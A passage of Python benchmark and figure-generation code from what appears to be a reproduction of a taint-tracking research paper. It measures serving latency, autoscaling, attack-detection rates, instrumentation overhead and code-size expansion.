    With ``taper`` the load runs two phases: a burst at ``offered``
    for the first ~60% of requests, then the remainder at
    ``taper * offered`` (the autoscaler's scale-down story).
    """
    if taper:
        burst = LoadPhase(0.6 * requests * 1e6 / offered, offered)
        low_load = taper * offered
        cool = LoadPhase(0.4 * requests * 1e6 / low_load, low_load)
        phases = [burst, cool]
    else:
        phases = [LoadPhase(requests * 1e6 / offered, offered)]
    return generate(LoadConfig(
        seed=seed, phases=phases, sizes_kb=sizes, size_weights=weights,
        attack_fraction=attack_fraction))


def curve_run(service: ServiceModel, seed: int, requests: int) -> Dict:
    """Sweep offered load across the knee on a fixed fleet."""
    mean = _mean_service(service, CURVE_SIZES, CURVE_WEIGHTS)
    capacity = BASE_WORKERS * 1e6 / mean  # requests per 1e6 cycles
    points = []
    for mult in LOAD_MULTIPLIERS:
        offered = mult * capacity
        workload = _workload(seed, offered, requests,
                             sizes=CURVE_SIZES, weights=CURVE_WEIGHTS)
        sim = ServeSim(workers=BASE_WORKERS, seed=seed,
                       service_model=service)
        result = sim.run(workload)
        lat = result.latency_percentiles()
        points.append({
            "multiplier": mult,
            "offered_load": round(offered, 3),
            "requests": len(result.records),
            "served": result.served,
            "dropped": result.dropped,
            "latency": {k: round(v, 1) for k, v in lat.items()},
            "p99_in_services": round(lat["p99"] / mean, 2),
            "throughput": round(result.throughput, 3),
            "max_queue_depth": result.max_queue_depth,
        })
    knee = next(m for m in LOAD_MULTIPLIERS if m > 1.0)
    return {
        "workers": BASE_WORKERS,
        "mean_service_cycles": round(mean, 1),
        "capacity": round(capacity, 3),
        "knee_multiplier": knee,
        "points": points,
    }


def autoscale_run(service: ServiceModel, curve: Dict, seed: int,
                  requests: int) -> Dict:
    """The above-knee load again, with the autoscaler active."""
    mean = curve["mean_service_cycles"]
    knee = curve["knee_multiplier"]
    offered = knee * curve["capacity"]
    workload = _workload(seed, offered, requests,
                         sizes=CURVE_SIZES, weights=CURVE_WEIGHTS)
    auto = AutoscalerConfig(
        min_workers=BASE_WORKERS, max_workers=8,
        interval=mean / 4.0, cooldown_ticks=3)
    sim = ServeSim(workers=BASE_WORKERS, seed=seed,
                   service_model=service, autoscaler=auto)
    result = sim.run(workload)
    rerun = ServeSim(workers=BASE_WORKERS, seed=seed,
                     service_model=service, autoscaler=auto).run(
        _workload(seed, offered, requests,
                  sizes=CURVE_SIZES, weights=CURVE_WEIGHTS))
    lat = result.latency_percentiles()
    fixed_point = next(p for p in curve["points"]
                       if p["multiplier"] == knee)
    bound = P99_BOUND * mean
    return {
        "offered_load": round(offered, 3),
        "requests": len(result.records),
        "served": result.served,
        "dropped": result.dropped,
        "latency": {k: round(v, 1) for k, v in lat.items()},
        "p99_in_services": round(lat["p99"] / mean, 2),
        "p99_fixed": fixed_point["latency"]["p99"],
        "p99_bound": round(bound, 1),
        "p99_bounded": lat["p99"] <= bound,
        "p99_beats_fixed": lat["p99"] <= fixed_point["latency"]["p99"],
        "peak_workers": result.peak_workers,
        "scaled_up": result.peak_workers > BASE_WORKERS,
        "worker_trace": result.worker_trace(),
        "scale_events": result.scale_events,
        "digest": result.digest(),
        "rerun_identical": result.digest() == rerun.digest(),
    }


def attack_run(engine: str, seed: int, requests: int) -> Dict:
    """Burst-then-taper attack mix: detect everything while scaling."""
    service = ServiceModel(_attack_config(engine))
    mean = _mean_service(service, ATTACK_SIZES, ATTACK_WEIGHTS)
    capacity = BASE_WORKERS * 1e6 / mean
    offered = 2.0 * capacity  # burst well past the fixed knee
    workload = _workload(seed, offered, requests,
                         sizes=ATTACK_SIZES, weights=ATTACK_WEIGHTS,
                         attack_fraction=0.3, taper=0.15)
    auto = AutoscalerConfig(
        min_workers=BASE_WORKERS, max_workers=8,
        interval=mean / 4.0, cooldown_ticks=3)
    sim = ServeSim(workers=BASE_WORKERS, seed=seed,
                   service_model=service, autoscaler=auto)
    result = sim.run(workload)
    # Zero-downtime arm: the same workload with drained workers retiring
    # via live migration (queued requests ship in the state blob) rather
    # than serving out their queue first.
    migrated = ServeSim(workers=BASE_WORKERS, seed=seed,
                        service_model=service, autoscaler=auto,
                        migrate_on_drain=True).run(workload)
    detection = result.attack_detection()
    clean = sum(1 for r in result.records if r.kind == "clean")
    scale_ups = sum(1 for e in result.scale_events
                    if e["action"] == "scale_up")
    retires = sum(1 for e in result.scale_events
                  if e["action"] == "retire")
    migrations = sum(1 for e in migrated.scale_events
                     if e["action"] == "migrate")
    mig_detection = migrated.attack_detection()
    return {
        "workload": describe(workload),
        "mean_service_cycles": round(mean, 1),
        "offered_burst": round(offered, 3),
        "clean_requests": clean,
        "served": result.served,
        "quarantined": result.quarantined,
        "dropped": result.dropped,
        "detection": detection,
        "false_alerts": result.false_alerts,
        "scale_ups": scale_ups,
        "retires": retires,
        "peak_workers": result.peak_workers,
        "latency": {k: round(v, 1)
                    for k, v in result.latency_percentiles().items()},
        "scale_events": result.scale_events,
        "exact": (result.served == clean
                  and detection["detection_rate"] == 1.0
                  and result.false_alerts == 0
                  and result.dropped == 0),
        "drain_migration": {
            "migration_blob_bytes": service.migration_blob_bytes,
            "migration_cycles": round(service.migration_cycles, 1),
            "migrations": migrations,
            "requests_migrated": migrated.migrated,
            "served": migrated.served,
            "quarantined": migrated.quarantined,
            "dropped": migrated.dropped,
            "detection": mig_detection,
            "false_alerts": migrated.false_alerts,
            "p99": round(migrated.latency_percentiles()["p99"], 1),
            # Every admitted request completes exactly once and the
            # outcome tallies match the serve-out-the-queue drain: no
            # request was dropped or re-executed by migrating.
            "zero_downtime": (
                migrated.dropped == 0
                and migrated.served == result.served
                and migrated.quarantined == result.quarantined
                and mig_detection["detection_rate"] == 1.0
                and migrated.false_alerts == 0),
        },
    }


def wallclock_run(service: ServiceModel, seed: int, engine: str,
                  requests: int) -> Dict:
    """Real-process open-loop serving (reported, never gated)."""
    import time

    from repro.fleet.driver import run_worker

    # Calibrate cycles-per-second from one real request so the
    # workload's cycle schedule replays at realistic pressure.
    mean = _mean_service(service, CURVE_SIZES, CURVE_WEIGHTS)
    started = time.perf_counter()
    run_worker(_curve_config(engine), "wall-cal",
               [(make_request(4), None)])
    wall_per_request = max(time.perf_counter() - started, 1e-4)
    time_scale = service.cost(make_request(4)).cycles / wall_per_request
    offered = 0.7 * BASE_WORKERS * 1e6 / mean
    workload = _workload(seed, offered, requests,
                         sizes=CURVE_SIZES, weights=CURVE_WEIGHTS)
    report = run_wallclock(workload, config=_curve_config(engine),
                           workers=BASE_WORKERS, seed=seed,
                           time_scale=time_scale)
    report["offered_load_cycles"] = round(offered, 3)
    return report


def run_suite(quick: bool, seed: int, engine: str, *,
              wall: bool) -> Dict:
    """All experiments; returns the full report dict."""
    requests = 60 if quick else 140
    service = ServiceModel(_curve_config(engine))

    print("servebench: measuring service budgets", flush=True)
    mean = _mean_service(service, CURVE_SIZES, CURVE_WEIGHTS)
    print(f"  boot {service.boot_cycles:.0f} cycles, clean mix mean "
          f"{mean:.0f} cycles ({service.measured} payloads measured)",
          flush=True)

    print("servebench: latency/throughput curve", flush=True)
    curve = curve_run(service, seed, requests)
    for point in curve["points"]:
        print(f"  x{point['multiplier']:<5} offered "
              f"{point['offered_load']:6.2f} req/Mcycle: p50 "
              f"{point['latency']['p50']:>10.0f}  p99 "
              f"{point['latency']['p99']:>10.0f} cycles "
              f"({point['p99_in_services']:.1f} services)", flush=True)

    print("servebench: autoscaling at the knee", flush=True)
    autoscale = autoscale_run(service, curve, seed, requests)
    print(f"  p99 {autoscale['latency']['p99']:.0f} vs fixed "
          f"{autoscale['p99_fixed']:.0f} cycles, peak workers "
          f"{autoscale['peak_workers']}, rerun identical: "
          f"{autoscale['rerun_identical']}", flush=True)

    print("servebench: attack mix while scaling", flush=True)
    attack = attack_run(engine, seed, requests=max(60, requests // 2))
    print(f"  {attack['detection']['detected']}/"
          f"{attack['detection']['attacks']} attacks quarantined, "
          f"{attack['false_alerts']} false alerts, "
          f"{attack['scale_ups']} scale-ups, {attack['retires']} retires",
          flush=True)
    migration = attack["drain_migration"]
    print(f"  drain-via-migration: {migration['migrations']} migrations "
          f"({migration['migration_blob_bytes']} B blob, "
          f"{migration['migration_cycles']:.0f} cycles each), "
          f"{migration['requests_migrated']} requests moved, "
          f"zero-downtime: {migration['zero_downtime']}", flush=True)

    wallclock = None
    if wall:
        print("servebench: wall-clock mode (multiprocessing)", flush=True)
        wallclock = wallclock_run(service, seed, engine,
                                  requests=min(requests // 3, 40))
        print(f"  {wallclock['completed']}/{wallclock['requests']} done in "
              f"{wallclock['wall_seconds']:.1f}s, p99 "
              f"{wallclock['latency_ms']['p99']:.0f} ms", flush=True)

    return {
        "config": {
            "seed": seed,
            "engine": engine,
            "quick": quick,
            "requests": requests,
            "workers": BASE_WORKERS,
            "python": sys.version.split()[0],
        },
        "service_model": {
            "boot_cycles": service.boot_cycles,
            "payloads_measured": service.measured,
            "mean_service_cycles": round(mean, 1),
        },
        "curve": curve,
        "autoscale": autoscale,
        "attack_mix": attack,
        "wallclock": wallclock,
    }


def gate(report: Dict) -> int:
    """Check the CI gate conditions; returns a process exit code."""
    failures = []
    curve = report["curve"]
    if len(curve["points"]) < 4:
        failures.append(
            f"latency curve has {len(curve['points'])} points < 4")
    for point in curve["points"]:
        if point["dropped"] or point["served"] != point["requests"]:
            failures.append(
                f"curve x{point['multiplier']} did not serve everything "
                f"({point['served']}/{point['requests']}, "
                f"{point['dropped']} dropped)")
    autoscale = report["autoscale"]
    if not autoscale["scaled_up"]:
        failures.append("autoscaler never scaled past the base fleet")
    if not autoscale["p99_bounded"]:
        failures.append(
            f"autoscaled p99 {autoscale['latency']['p99']:.0f} exceeds "
            f"bound {autoscale['p99_bound']:.0f} cycles")
    if not autoscale["p99_beats_fixed"]:
        failures.append("autoscaled p99 did not beat the fixed fleet")
    if not autoscale["rerun_identical"]:
        failures.append("re-run digest diverged at fixed seed")
    attack = report["attack_mix"]
    if attack["detection"]["attacks"] < 2:
        failures.append("attack mix generated fewer than 2 attacks")
    if attack["detection"]["detection_rate"] < 1.0:
        failures.append(
            f"attack detection "
            f"{attack['detection']['detection_rate']:.2f} < 1.0")
    if attack["false_alerts"]:
        failures.append(
            f"{attack['false_alerts']} false alert(s) on clean traffic")
    if not attack["scale_ups"] or not attack["retires"]:
        failures.append(
            "attack mix did not exercise scale-up and drained retire")
    if not attack["exact"]:
        failures.append("attack mix was not exact")
    migration = attack["drain_migration"]
    if not migration["migrations"]:
        failures.append("drain-via-migration arm never migrated a worker")
    if not migration["zero_downtime"]:
        failures.append(
            "drain-via-migration dropped/re-executed requests "
            f"(served {migration['served']} vs {attack['served']}, "
            f"dropped {migration['dropped']})")
    for failure in failures:
        print(f"GATE FAIL: {failure}", file=sys.stderr)
    return 1 if failures else 0


def main(argv=None) -> int:
    parser = bench_parser("repro.harness.servebench", __doc__,
                          output="BENCH_serve.json")
    parser.add_argument("--wall", action="store_true",
                        help="force the wall-clock experiment "
                             "(default: full mode only)")
    args = parser.parse_args(argv)

    report = run_suite(args.quick, args.seed, args.engine,
                       wall=args.wall or not args.quick)
    write_report(report, args.output)
    if args.gate:
        return gate(report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
