"""Figure 9: breakdown of the remaining instrumentation overhead.

The paper splits the per-benchmark slowdown into tag-address
*computation* versus bitmap *memory access*, separately for load and
store instrumentation, and finds that computation dominates (blamed on
Itanium's unimplemented-bits translation) and that load instrumentation
outweighs store instrumentation (programs execute more loads).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence

from repro.apps.spec import BENCHMARKS
from repro.harness.formatting import format_table
from repro.harness.runners import PERF_OPTIONS, run_spec
from repro.isa.instruction import ROLE_TAG_COMPUTE, ROLE_TAG_MEM


@dataclass
class Figure9Row:
    """Overhead components normalised to the uninstrumented runtime."""

    benchmark: str
    level: str
    load_compute: float
    load_mem: float
    store_compute: float
    store_mem: float
    other_instrumentation: float

    @property
    def computation_total(self) -> float:
        """Tag-computation share (loads + stores)."""
        return self.load_compute + self.store_compute

    @property
    def memory_total(self) -> float:
        """Bitmap-access share (loads + stores)."""
        return self.load_mem + self.store_mem


@dataclass
class Figure9Result:
    """All Figure 9 rows for one scale."""
    rows: List[Figure9Row]
    scale: str


def run_figure9(scale: str = "ref",
                levels: Sequence[str] = ("byte", "word"),
                benchmarks: Optional[Sequence[str]] = None) -> Figure9Result:
    """Measure the overhead breakdown (Figure 9)."""
    names = list(benchmarks) if benchmarks else list(BENCHMARKS)
    rows: List[Figure9Row] = []
    for name in names:
        bench = BENCHMARKS[name]
        base = run_spec(bench, PERF_OPTIONS["none"], scale)
        for level in levels:
            run = run_spec(bench, PERF_OPTIONS[level], scale)
            counters = run.counters
            norm = base.cycles

            def cost(role: str, origin: str) -> float:
                pair = counters.pair_costs.get((role, origin))
                return (pair.cycles / norm) if pair else 0.0

            accounted = {
                (ROLE_TAG_COMPUTE, "load"), (ROLE_TAG_MEM, "load"),
                (ROLE_TAG_COMPUTE, "store"), (ROLE_TAG_MEM, "store"),
            }
            other = sum(
                c.cycles for (r, o), c in counters.pair_costs.items()
                if r is not None and (r, o) not in accounted
            ) / norm
            rows.append(Figure9Row(
                benchmark=name,
                level=level,
                load_compute=cost(ROLE_TAG_COMPUTE, "load"),
                load_mem=cost(ROLE_TAG_MEM, "load"),
                store_compute=cost(ROLE_TAG_COMPUTE, "store"),
                store_mem=cost(ROLE_TAG_MEM, "store"),
                other_instrumentation=other,
            ))
    return Figure9Result(rows=rows, scale=scale)


def format_figure9(result: Figure9Result) -> str:
    """Render the Figure 9 table."""
    body = [
        [row.benchmark, row.level,
         row.load_compute, row.load_mem,
         row.store_compute, row.store_mem,
         row.other_instrumentation]
        for row in result.rows
    ]
    return format_table(
        ["benchmark", "level", "ld compute", "ld mem", "st compute",
         "st mem", "other instr."],
        body,
        title=(f"Figure 9: overhead breakdown, fraction of baseline runtime "
               f"(scale={result.scale}; paper: computation >> memory access, "
               "loads >> stores)"),
    )
