"""Table 3: impact of the instrumentation on code size.

The paper reports original size, word-level size (+132-223%) and
byte-level size (+160-288%) for the SPEC binaries, and a smaller
expansion for glibc (36%/45%) — the library contains much non-memory
code, and its hand-summarised assembly routines are not instrumented.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence, Set

from repro.apps.spec import BENCHMARKS
from repro.compiler.codesize import instructions_to_bytes
from repro.compiler.instrument import ShiftOptions
from repro.compiler.parser import parse
from repro.compiler.pipeline import compile_program
from repro.harness.formatting import format_table
from repro.runtime.libc_src import LIBC_SOURCE

# Code size is measured for the protection configuration (strict
# pointer policy); the permissive SPEC-perf mode adds out-of-line
# pointer-laundering blocks that the paper's binaries do not contain.
BYTE = ShiftOptions(granularity=1, pointer_policy="strict")
WORD = ShiftOptions(granularity=8, pointer_policy="strict")
NONE = ShiftOptions(mode="none")

_DUMMY_MAIN = "int main() { return 0; }"


def libc_function_names() -> Set[str]:
    """Names of the functions defined by the MiniC libc."""
    unit = parse(LIBC_SOURCE)
    return {f.name for f in unit.functions if f.body is not None}


@dataclass
class Table3Row:
    """Code sizes of one application across compile modes."""
    name: str
    orig_bytes: int
    word_bytes: int
    word_overhead_percent: float
    byte_bytes: int
    byte_overhead_percent: float


def _sizes(sources: List[str], functions: Optional[Set[str]],
           options: ShiftOptions) -> int:
    """Code bytes of the selected functions under one compile mode."""
    compiled = compile_program(sources, options)
    total = 0
    for name, count in compiled.function_sizes.items():
        if functions is None or name in functions:
            total += instructions_to_bytes(count)
    return total


def run_table3(benchmarks: Optional[Sequence[str]] = None,
               scale: str = "ref") -> List[Table3Row]:
    """Measure code-size expansion (Table 3)."""
    rows: List[Table3Row] = []
    libc_names = libc_function_names()

    # The libc row (the paper's glibc entry).
    libc_sources = [LIBC_SOURCE, _DUMMY_MAIN]
    orig = _sizes(libc_sources, libc_names, NONE)
    word = _sizes(libc_sources, libc_names, WORD)
    byte = _sizes(libc_sources, libc_names, BYTE)
    rows.append(Table3Row(
        name="libc", orig_bytes=orig,
        word_bytes=word, word_overhead_percent=100.0 * (word - orig) / orig,
        byte_bytes=byte, byte_overhead_percent=100.0 * (byte - orig) / orig,
    ))

    for name in (benchmarks or list(BENCHMARKS)):
        bench = BENCHMARKS[name]
        sources = [LIBC_SOURCE, bench.source(scale)]
        compiled_none = compile_program(sources, NONE)
        own = {fn for fn in compiled_none.function_sizes if fn not in libc_names}
        orig = _sizes(sources, own, NONE)
        word = _sizes(sources, own, WORD)
        byte = _sizes(sources, own, BYTE)
        rows.append(Table3Row(
            name=name, orig_bytes=orig,
            word_bytes=word, word_overhead_percent=100.0 * (word - orig) / orig,
            byte_bytes=byte, byte_overhead_percent=100.0 * (byte - orig) / orig,
        ))
    return rows


def format_table3(rows: List[Table3Row]) -> str:
    """Render the Table 3 table."""
    return format_table(
        ["app", "orig (B)", "word (B)", "word ovh", "byte (B)", "byte ovh"],
        [
            [row.name, row.orig_bytes, row.word_bytes,
             f"{row.word_overhead_percent:.0f}%",
             row.byte_bytes, f"{row.byte_overhead_percent:.0f}%"]
            for row in rows
        ],
        title=("Table 3: code-size expansion (paper: glibc 36%/45%, "
               "SPEC word 132-223%, byte 160-288%)"),
    )
