"""Figure 6: SHIFT overhead on the web server.

The paper issues 1,000 requests (concurrency 200) against Apache for
files of 4/8/16/512 KB and reports relative latency and throughput for
byte- and word-level tracking; the geometric-mean overhead is about 1%,
with the 4 KB point the worst (~4.2%) because the smallest transfer has
the smallest I/O share.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Sequence

from repro.apps.webserver import FILE_SIZES_KB
from repro.harness.formatting import format_table, geomean
from repro.harness.runners import PERF_OPTIONS, run_webserver


@dataclass
class Figure6Row:
    """Relative performance at one file size (1.0 = uninstrumented)."""

    file_kb: int
    byte_latency: float  # relative latency (>= 1.0 is slower)
    byte_throughput: float  # relative throughput (<= 1.0 is slower)
    word_latency: float
    word_throughput: float

    @property
    def byte_overhead_percent(self) -> float:
        """Byte-level latency overhead in percent."""
        return (self.byte_latency - 1.0) * 100.0

    @property
    def word_overhead_percent(self) -> float:
        """Word-level latency overhead in percent."""
        return (self.word_latency - 1.0) * 100.0


@dataclass
class Figure6Result:
    """All Figure 6 rows plus the request count."""
    rows: List[Figure6Row]
    requests: int

    @property
    def mean_overhead_percent(self) -> float:
        """Geometric mean of relative latency across sizes and levels."""
        ratios = []
        for row in self.rows:
            ratios.extend([row.byte_latency, row.word_latency])
        return (geomean(ratios) - 1.0) * 100.0


def run_figure6(sizes_kb: Sequence[int] = FILE_SIZES_KB,
                requests: int = 50) -> Figure6Result:
    """Measure the server at each file size under none/byte/word."""
    rows: List[Figure6Row] = []
    for kb in sizes_kb:
        base = run_webserver(PERF_OPTIONS["none"], kb, requests)
        byte = run_webserver(PERF_OPTIONS["byte"], kb, requests)
        word = run_webserver(PERF_OPTIONS["word"], kb, requests)
        rows.append(Figure6Row(
            file_kb=kb,
            byte_latency=byte.latency_cycles / base.latency_cycles,
            byte_throughput=byte.throughput / base.throughput,
            word_latency=word.latency_cycles / base.latency_cycles,
            word_throughput=word.throughput / base.throughput,
        ))
    return Figure6Result(rows=rows, requests=requests)


def format_figure6(result: Figure6Result) -> str:
    """Render the Figure 6 table."""
    table = format_table(
        ["file size", "byte latency", "byte thruput", "word latency",
         "word thruput", "byte ovh%", "word ovh%"],
        [
            [f"{row.file_kb} KB", row.byte_latency, row.byte_throughput,
             row.word_latency, row.word_throughput,
             f"{row.byte_overhead_percent:.1f}", f"{row.word_overhead_percent:.1f}"]
            for row in result.rows
        ],
        title=f"Figure 6: web-server overhead ({result.requests} requests per point; "
              "relative to uninstrumented)",
    )
    return table + (
        f"\ngeometric-mean latency overhead: {result.mean_overhead_percent:.2f}% "
        "(paper: ~1%)"
    )
