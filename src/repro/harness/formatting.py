"""ASCII table rendering and small statistics helpers."""

from __future__ import annotations

import math
from typing import Iterable, List, Optional, Sequence


def geomean(values: Iterable[float]) -> float:
    """Geometric mean (the paper's average for slowdowns/overheads)."""
    values = [v for v in values]
    if not values:
        return float("nan")
    if any(v <= 0 for v in values):
        raise ValueError("geometric mean requires positive values")
    return math.exp(sum(math.log(v) for v in values) / len(values))


def format_table(
    headers: Sequence[str],
    rows: Sequence[Sequence[object]],
    title: Optional[str] = None,
) -> str:
    """Render a fixed-width table with a separator under the header."""
    cells = [[str(h) for h in headers]] + [[_fmt(c) for c in row] for row in rows]
    widths = [max(len(row[i]) for row in cells) for i in range(len(headers))]
    lines: List[str] = []
    if title:
        lines.append(title)
    header_line = "  ".join(h.ljust(w) for h, w in zip(cells[0], widths))
    lines.append(header_line)
    lines.append("-" * len(header_line))
    for row in cells[1:]:
        lines.append("  ".join(c.ljust(w) for c, w in zip(row, widths)))
    return "\n".join(lines)


def _fmt(value: object) -> str:
    if isinstance(value, float):
        return f"{value:.2f}"
    return str(value)


def fmt_slowdown(value: float) -> str:
    """Format a slowdown as '2.81X'."""
    return f"{value:.2f}X"


def fmt_percent(value: float, digits: int = 1) -> str:
    """Format a percentage."""
    return f"{value:.{digits}f}%"
