"""Figure 8: impact of the proposed architectural enhancements.

Paper section 6.3: adding set/clear-NaT instructions cuts the average
slowdown by 16 percentage-points at both granularities; adding the
NaT-aware compare as well cuts 49 (byte) / 47 (word) points in total.
The per-benchmark reduction tracks the amount of tainted data: 173%/166%
for gcc, only 2%/5% for mcf.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence

from repro.apps.spec import BENCHMARKS
from repro.harness.formatting import format_table, geomean
from repro.harness.runners import PERF_OPTIONS, run_spec


@dataclass
class Figure8Row:
    """Slowdowns of one benchmark across enhancement levels."""
    benchmark: str
    level: str  # 'byte' or 'word'
    unsafe: float  # baseline SHIFT slowdown
    set_clear: float  # + set/clear-NaT instructions
    both: float  # + NaT-aware compare too

    @property
    def set_clear_reduction_points(self) -> float:
        """Slowdown reduction in percentage points (paper's metric)."""
        return (self.unsafe - self.set_clear) * 100.0

    @property
    def both_reduction_points(self) -> float:
        """Slowdown points recovered by both enhancements."""
        return (self.unsafe - self.both) * 100.0


@dataclass
class Figure8Result:
    """All Figure 8 rows for one scale."""
    rows: List[Figure8Row]
    scale: str

    def level_rows(self, level: str) -> List[Figure8Row]:
        """Rows of one granularity."""
        return [row for row in self.rows if row.level == level]

    def mean_reduction(self, level: str, which: str) -> float:
        """Average points recovered by one enhancement."""
        rows = self.level_rows(level)
        base = geomean(r.unsafe for r in rows)
        enh = geomean((r.set_clear if which == "set_clear" else r.both) for r in rows)
        return (base - enh) * 100.0


def run_figure8(scale: str = "ref",
                benchmarks: Optional[Sequence[str]] = None) -> Figure8Result:
    """Measure the enhancement matrix (Figure 8)."""
    names = list(benchmarks) if benchmarks else list(BENCHMARKS)
    rows: List[Figure8Row] = []
    for name in names:
        bench = BENCHMARKS[name]
        base = run_spec(bench, PERF_OPTIONS["none"], scale)
        for level in ("byte", "word"):
            slowdowns = {}
            for config, key in ((level, "unsafe"),
                                (f"{level}-set/clear", "set_clear"),
                                (f"{level}-both", "both")):
                run = run_spec(bench, PERF_OPTIONS[config], scale)
                if run.checksum != base.checksum:
                    raise AssertionError(f"{name}/{config}: checksum diverged")
                slowdowns[key] = run.cycles / base.cycles
            rows.append(Figure8Row(benchmark=name, level=level, **slowdowns))
    return Figure8Result(rows=rows, scale=scale)


def format_figure8(result: Figure8Result) -> str:
    """Render the Figure 8 table."""
    body = []
    for level in ("byte", "word"):
        for row in result.level_rows(level):
            body.append([
                row.benchmark, row.level, row.unsafe, row.set_clear, row.both,
                f"{row.set_clear_reduction_points:.0f}",
                f"{row.both_reduction_points:.0f}",
            ])
        body.append([
            "geo.mean", level,
            geomean(r.unsafe for r in result.level_rows(level)),
            geomean(r.set_clear for r in result.level_rows(level)),
            geomean(r.both for r in result.level_rows(level)),
            f"{result.mean_reduction(level, 'set_clear'):.0f}",
            f"{result.mean_reduction(level, 'both'):.0f}",
        ])
    return format_table(
        ["benchmark", "level", "unsafe", "+set/clear", "+both",
         "red(s/c) pts", "red(both) pts"],
        body,
        title=(f"Figure 8: architectural enhancements (scale={result.scale}; "
               "paper: set/clear -16pts, both -49/-47pts)"),
    )
