"""Speculative fast-path benchmark: speedup, equivalence and replay.

Three experiments over the contained-taint store
(:mod:`repro.apps.specstore`), one report (``BENCH_spec.json``):

1. **Contained-taint mix** — one tainted ``STOR`` seeds the value
   slab, then clean ``SUM`` compute requests dominate.  The slab never
   drains, so plain on-demand tracking (``adaptive="on"``) collapses
   to always-on; speculation (``adaptive="speculate"``) runs every
   clean request on the fast copy under taint-range guards.  Four arms
   over identical traffic: speculate / on / track (always-on pin) /
   uninstrumented floor.  The CI gate lives here: >= 1.2x cycle
   speedup of speculate over always-on with responses, alerts and
   taint origins bit-identical — under **both** interpreter engines,
   which must also agree with each other byte for byte.
2. **Misspeculation mix** — seeded guard trips (``GET`` of a watched
   slot) plus one real H4 command injection (``EXEC``).  Every trip
   rolls back to the epoch checkpoint and replays under tracking; the
   gate requires the replayed run digest-equal (responses, alerts
   with pcs, origins) to a straight always-on run, with the expected
   rollback count.
3. **Word granularity** — the contained mix at word tags (8-byte
   granules), showing the watch construction is granularity-blind.

::

    PYTHONPATH=src python -m repro.harness.specbench --quick --gate

``--gate`` exits non-zero unless every condition above holds.  A
metrics render of the speculate arm (``adaptive.spec.*`` counters
included) is written next to the report as ``metrics.txt``.
"""

from __future__ import annotations

import sys
from typing import Dict, List, Sequence, Tuple

from repro.compiler.instrument import ShiftOptions
from repro.harness.benchcli import bench_parser, write_report
from repro.harness.runners import build_web_machine, specstore_policy
from repro.apps.specstore import contained_mix, misspec_mix

#: Strict byte-granularity tracking: speculation's claim is full
#: detection strength with fast-path cycles, so the track half carries
#: the strongest configuration.
SPECSTORE_OPTIONS = ShiftOptions(granularity=1)
WORD_OPTIONS = ShiftOptions(granularity=8)

#: CI gate: minimum contained-mix speedup of speculate over always-on.
SPEEDUP_GATE = 1.2

#: Expected guard trips in the misspeculation mix: one benign ``GET``
#: of the watched slot, one ``EXEC`` command injection.
EXPECTED_ROLLBACKS = 2


def _run_arm(adaptive: str, requests: Sequence[bytes], engine: str,
             options: ShiftOptions) -> Dict:
    """One specstore arm over one request stream; raw observables."""
    machine = build_web_machine(
        "specstore",
        options if adaptive != "uninstrumented" else ShiftOptions(mode="none"),
        policy_config=specstore_policy(),
        files={},
        engine=engine,
        engine_mode="record",
        adaptive=adaptive if adaptive != "uninstrumented" else "none",
        tracing=True,
    )
    for payload in requests:
        machine.net.add_request(payload)
    served = machine.run(max_instructions=2_000_000_000)
    arm = {
        "served": served,
        "cycles": machine.counters.cycles,
        "io_cycles": machine.counters.io_cycles,
        "instructions": machine.counters.instructions,
        "alerts": [(a.policy_id, a.pc, a.message) for a in machine.alerts],
        "responses": [bytes(c.outbound) for c in machine.net.completed],
        "origins": [(o.source, o.label, o.index, o.start, o.length)
                    for o in machine.obs.provenance.origins],
        "live_bytes_final": machine.taint_map.live_bytes,
        "machine": machine,
    }
    spec = machine.spec
    if spec is not None:
        arm["spec"] = {
            "epochs": spec.epochs,
            "commits": spec.commits,
            "rollbacks": spec.rollbacks,
            "committed_instructions": spec.committed_instructions,
            "wasted_instructions": spec.wasted_instructions,
            "deferred_sends": spec.deferred_sends,
            "deferred_bytes": spec.deferred_bytes,
            "entry_failures": spec.entry_failures,
        }
    return arm


def _public(arm: Dict) -> Dict:
    """Strip non-serialisable internals from an arm record."""
    out = {k: v for k, v in arm.items()
           if k not in ("machine", "responses", "origins")}
    out["alerts"] = [list(a) for a in arm["alerts"]]
    return out


def _digest_equal(a: Dict, b: Dict) -> bool:
    """Externally visible equality: responses, alerts, origins, count."""
    return (a["responses"] == b["responses"]
            and a["alerts"] == b["alerts"]
            and a["origins"] == b["origins"]
            and a["served"] == b["served"])


def contained_experiment(requests: Sequence[bytes], engine: str,
                         options: ShiftOptions,
                         name: str = "contained") -> Dict:
    """Speculate / on / track / floor arms over the contained mix."""
    speculate = _run_arm("speculate", requests, engine, options)
    on = _run_arm("on", requests, engine, options)
    track = _run_arm("track", requests, engine, options)
    floor = _run_arm("uninstrumented", requests, engine, options)
    entry = {
        "name": name,
        "engine": engine,
        "granularity": options.granularity,
        "requests": len(requests),
        "speculate": _public(speculate),
        "adaptive_on": _public(on),
        "always_on": _public(track),
        "uninstrumented": _public(floor),
        "speedup": track["cycles"] / speculate["cycles"],
        "speedup_vs_on": on["cycles"] / speculate["cycles"],
        "overhead_vs_floor": speculate["cycles"] / floor["cycles"],
        "identical_to_always_on": _digest_equal(speculate, track),
        "rollbacks": speculate["spec"]["rollbacks"],
    }
    entry["_speculate"] = speculate
    return entry


def misspec_experiment(requests: Sequence[bytes], engine: str) -> Dict:
    """Seeded guard trips: rollback + replay must equal straight track."""
    speculate = _run_arm("speculate", requests, engine, SPECSTORE_OPTIONS)
    track = _run_arm("track", requests, engine, SPECSTORE_OPTIONS)
    return {
        "name": "misspec",
        "engine": engine,
        "requests": len(requests),
        "speculate": _public(speculate),
        "always_on": _public(track),
        "rollbacks": speculate["spec"]["rollbacks"],
        "expected_rollbacks": EXPECTED_ROLLBACKS,
        "replay_digest_equal": _digest_equal(speculate, track),
        "h4_detected": [a[0] for a in speculate["alerts"]] == ["H4"],
    }


def run_suite(quick: bool, engines: Sequence[str]) -> Tuple[Dict, str]:
    """All experiments across the requested engines."""
    sums = 8 if quick else 24
    mis_sums = 4 if quick else 10
    contained: List[Dict] = []
    misspec: List[Dict] = []
    metrics_text = ""
    for engine in engines:
        print(f"specbench: contained-taint mix ({engine})", flush=True)
        entry = contained_experiment(contained_mix(sums), engine,
                                     SPECSTORE_OPTIONS)
        speculate = entry.pop("_speculate")
